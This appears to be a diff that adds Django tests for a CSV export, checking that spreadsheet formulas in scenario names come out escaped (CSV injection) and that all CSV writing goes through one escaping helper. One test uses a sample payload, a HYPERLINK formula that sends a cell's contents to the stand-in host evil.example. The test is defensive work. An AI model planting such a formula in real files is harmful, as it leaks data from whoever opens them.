@@ -1,5 +1,8 @@
 from __future__ import annotations
 
+import csv
+import io
+from pathlib import Path
 from typing import Any
 
 from django.urls import reverse
@@ -61,3 +64,30 @@ class TestScenarioCompare:
             reverse("analytics:compare"), {"s": [str(mine.public_id), str(theirs.public_id)]}
         )
         assert response.status_code == 404
+
+
+class TestScenarioExportFormulaInjection:
+    """OWASP "CSV Injection": a cell a spreadsheet would run as a formula is quoted."""
+
+    def test_a_formula_in_the_scenario_name_comes_out_escaped(
+        self, admin_client: Any, org: Any
+    ) -> None:
+        evil = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+        scenario = make_scenario(org, evil)
+        response = admin_client.get(reverse("analytics:scenario_csv", args=[scenario.public_id]))
+        rows = list(csv.reader(io.StringIO(response.content.decode())))
+        assert ["scenario", "name", "'" + evil] in rows
+        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+
+
+def test_every_csv_export_goes_through_the_escaping_helper() -> None:
+    """No module writes CSV except chairside.rules.csv_safe (so no export forgets to escape)."""
+    root = Path(__file__).resolve().parents[2]
+    offenders = [
+        str(p.relative_to(root))
+        for p in root.rglob("*.py")
+        if "tests" not in p.parts
+        and p.name != "csv_safe.py"
+        and ("csv.writer(" in (text := p.read_text()) or "csv.DictWriter(" in text)
+    ]
+    assert offenders == []
